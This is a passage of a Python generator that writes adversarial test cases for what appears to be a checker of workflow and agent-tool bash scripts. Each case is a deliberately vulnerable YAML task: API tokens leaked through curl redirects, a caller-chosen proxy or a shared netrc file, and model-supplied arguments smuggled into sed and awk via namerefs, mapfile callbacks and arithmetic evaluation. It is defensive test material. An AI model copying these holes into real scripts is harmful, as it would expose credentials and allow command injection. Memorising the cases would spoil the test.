  "The format shows an `Authorization:` header, but the secret is printf's second argument, so it fills the `X-Request-Id:` line, which curl sends to the host the redirect names.")

A("curl-L-function-two-headers", "curl-header-lines", SEC + r'''
name: api_fetch_fn
description: Fetch a path of the company API with its auth headers.
args:
  path: {type: string, pattern: '^[a-z0-9/._-]{1,100}$', description: "the API path"}
required: [path]
timeout: 30
steps:
  - name: fetch
    run: |
      headers() { printf 'Authorization: Bearer %s\nPrivate-Token: %s\n' "$API_TOKEN" "$API_TOKEN"; }
      api() { headers | curl -sSL --max-time 5 -H @- "$@"; }
      api -o /dev/null "http://127.0.0.1:18766/$ARG_path" || true
      echo done
''', {"path": REDIR},
  "Round twenty: what a function prints goes where its calls send it (here always into `curl -H @-`), and a function passing `\"$@\"` on is judged at each call. Its format starts with `Authorization:`; its second line, `Private-Token:`, goes with the redirect.")

A("curl-proxy-caller", "curl-header-lines", SEC + r'''
name: items_via_proxy
description: Fetch the items list through a chosen egress proxy.
args:
  proxy: {type: string, pattern: '^http://[a-z0-9.:-]{1,100}$', description: "the proxy, e.g. http://proxy.internal:3128"}
required: [proxy]
timeout: 30
steps:
  - name: fetch
    run: |
      printf 'Authorization: Bearer %s\n' "$API_TOKEN" |
        curl -fsS --max-time 5 -x "$ARG_proxy" -H @- http://127.0.0.1:18766/v1/items || true
''', {"proxy": "http://127.0.0.1:18765"},
  "Round eighteen: caller data beside a secret is judged by the grammar alone; `-x`'s value is an option that takes a value. An HTTP proxy receives the whole request, Authorization header included.")

# ============================================================ fd-redirect
A("fd3-shared-log", "descriptor-other-than-1-2", SEC + r'''
name: nightly_netrc
description: Write the netrc the nightly job reads, and list the items.
timeout: 30
steps:
  - name: netrc
    run: |
      mkdir -p /var/tmp/r21-app
      exec 3> /var/tmp/r21-app/sync.netrc
      printf 'machine 127.0.0.1 login ci password %s\n' "$API_TOKEN" >&3
      exec 3>&-
      printf 'Authorization: Bearer %s\n' "$API_TOKEN" |
        curl -fsS --max-time 5 -H @- http://127.0.0.1:18766/v1/items
''', {},
  "Round twenty: `>&2` is no file a secret could be read back from. `>&3` is also a descriptor, not a file name; here descriptor 3 was opened by `exec` on a file outside the run directory, which another export of the server prints (no secret of its own, so nothing scrubs it).",
  then=[{"export": "shared_file", "args": {"name": "sync.netrc"}}])

T("shared_file", r'''
name: shared_file
description: Print a file of the server's shared cache folder.
args:
  name: {type: string, enum: [sync.netrc, regions, last_build]}
required: [name]
timeout: 30
steps:
  - name: show
    run: cat -- "/var/tmp/r21-app/$ARG_name"
''')

# ============================================================ custom tools (the model's values)
A("tool-nameref-loop", "custom-tool", r'''
name: agent_release_header
description: An agent drafts release headers.
tools:
  header:
    description: The docs index headed by a release title.
    args:
      title: {type: string, minLength: 1, maxLength: 200}
    required: [title]
    run: |
      title=$ARG_title
      declare -n field
      for field in title; do sed "s|^|$field: |" docs/index.md; done
steps:
  - name: draft
    agent:
      model: triage
      system: You draft release headers.
      prompt: Draft the header of the next release.
      tools: [header]
''', {}, "Class loop-var-nameref in a custom tool: the loop's word is the literal name `title`, the nameref makes `$field` the model's title.",
  __tools__=[{"tool": "header", "args": {"title": SEDS}}])

A("tool-mapfile-callback", "custom-tool", r'''
name: agent_log_lines
description: An agent reads lines of the application log.
tools:
  lines:
    description: Lines of the application log, by number (comma-separated).
    args:
      lines: {type: string, minLength: 1, maxLength: 300}
    required: [lines]
    run: |
      show() { sed -n "${2}p" logs/app.log; }
      show 0 1
      mapfile -t -c 1 -C show got < <(tr ',' '\n' <<< "$ARG_lines")
steps:
  - name: read
    agent:
      model: triage
      system: You read logs.
      prompt: Find the first error.
      tools: [lines]
''', {}, "Class hidden-function-call in a custom tool: `mapfile -C show` calls `show` with each of the model's lines as `$2`.",
  __tools__=[{"tool": "lines", "args": {"lines": SEDE}}])

A("tool-guard-subshell", "custom-tool", r'''
name: agent_log_line
description: An agent reads one line of the application log.
tools:
  line:
    description: One line of the application log.
    args:
      n: {type: string, minLength: 1, maxLength: 100}
    required: [n]
    run: |
      for n in "$ARG_n"; do
        ( [[ $n =~ ^[0-9]+$ ]] || continue; sed -n "${n}p" logs/app.log )
      done
steps:
  - name: read
    agent:
      model: triage
      system: You read logs.
      prompt: Show line 3.
      tools: [line]
''', {}, "Class guard-does-not-leave in a custom tool: `continue` in a subshell does not leave the loop.",
  __tools__=[{"tool": "line", "args": {"n": SEDE}}])

A("tool-printf-v-concat", "custom-tool", r'''
name: agent_prefix_count
description: An agent counts log lines by prefix.
tools:
  count:
    description: How many application log lines start with 2024- and a given suffix.
    args:
      suffix: {type: string, minLength: 1, maxLength: 200}
    required: [suffix]
    run: |
      printf -v prefix %s "2024-" "$ARG_suffix"
      awk "index(\$0, \"$prefix\") == 1 { n++ } END { print n + 0 }" logs/app.log
steps:
  - name: read
    agent:
      model: triage
      system: You count log lines.
      prompt: Count today's lines.
      tools: [count]
''', {}, "Class printf-v-words in a custom tool: `prefix` holds both words, the model's inside the awk program.",
  __tools__=[{"tool": "count", "args": {"suffix": 'x") ; ' + AWKSYS + ' ; n = ("'}}])

A("tool-assoc-shadow", "custom-tool", r'''
name: agent_ports
description: An agent looks up service ports.
tools:
  port:
    description: The port of a service.
    args:
      service: {type: string, minLength: 1, maxLength: 200}
    required: [service]
    run: |
      declare -A port=([web]=8080 [api]=9090)
      lookup() { printf '%s\n' "${port[$1]:-unknown}"; }
      ask() { local port=; lookup "$1"; }
      ask "$ARG_service"
steps:
  - name: look
    agent:
      model: triage
      system: You answer questions about services.
      prompt: Which port does web use?
      tools: [port]
''', {}, "Class assoc-dynamic-scope in a custom tool: the local scalar `port` of `ask` is what `lookup` indexes, arithmetically.",
  __tools__=[{"tool": "port", "args": {"service": ARITH}}])

# ============================================================ more of the classes
A("loop-int-guarded-arith", "loop-var-integer", r'''
name: page_of_log
description: Print a page of the application log (page size 10).
args:
  page: {type: string, minLength: 1, maxLength: 100, default: "1"}
timeout: 30
steps:
  - name: page
    run: |
      page=$ARG_page
      declare -i start
      for start in page; do
        sed -n "$(( start * 10 )),+9p" logs/app.log
      done
''', {"page": ARITH},
  "The loop's word is the literal `page`; `start` is an integer variable, so bash evaluates `page`, then its value, as arithmetic when the loop assigns it.")

A("fn-redefined-conditional-awk", "function-redefined", r'''
name: log_filter
description: Print the application log lines matching a word, or count them.
args:
  word: {type: string, minLength: 1, maxLength: 200, description: "the word"}
  mode: {type: string, enum: [print, count], default: count}
required: [word]
timeout: 30
steps:
  - name: filter
    run: |
      run() { grep -F -e "$1" logs/app.log || true; }
      run "$ARG_word"
      if [[ $ARG_mode == count ]]; then
        run() { awk "/$1/ { n++ } END { print n + 0 }" logs/app.log; }
        run ERROR
      fi
      run "$ARG_word"
''', {"word": 'x/ { n++ } END { ' + AWKSYS + ' } /x'},
  "Each `run` definition gets the calls that follow it: the grep one the caller's word (data to grep), the awk one `ERROR`. The last call textually follows the `if`, but at run time (mode=count) it runs the awk definition with the caller's word.")

A("read-dev-stdin-awk", "read-literal-path", r'''
name: csv_first_value
description: Print the application log lines up to the first value of a CSV text.
args:
  csv: {type: string, minLength: 1, maxLength: 2000, multiline: true, description: "CSV text"}
required: [csv]
timeout: 30
steps:
  - name: head
    run: |
      src=/dev/stdin
      head_value() {
        IFS=, read -r limit _ < "$src"
        awk "NR <= $limit" logs/app.log
      }
      head_value <<< "$ARG_csv"
''', {"csv": "1 || " + AWKSYS + ",x"},
  "`read -r` from `\"$src\"`, set once to the literal `/dev/stdin`, which no step writes; the function's stdin is the caller's CSV.")


def main():
    os.makedirs(OUT, exist_ok=True)
    os.makedirs(os.path.join(OUT, "then"), exist_ok=True)
    for f in os.listdir(OUT):
        if f[:3].isdigit():
            os.unlink(os.path.join(OUT, f))
    for f in os.listdir(os.path.join(OUT, "then")):
        os.unlink(os.path.join(OUT, "then", f))
    for name, y in THEN.items():
        open(os.path.join(OUT, "then", name + ".yaml"), "w").write(y)
    i = 0
    for name, cls, y, args, why, extra in ATT:
        if extra.pop("skip", False):
            continue
        i += 1
        base = os.path.join(OUT, "%03d-%s" % (i, name))
        open(base + ".yaml", "w").write(y)
        spec = {"args": dict(args), "class": cls, "why": why}
        spec.update(extra)
        json.dump(spec, open(base + ".json", "w"), indent=1)
        assert "HARBOR-PWNED-42" not in json.dumps(spec), name
    print(i, "attacks,", len(THEN), "then-exports")


if __name__ == "__main__":
    main()
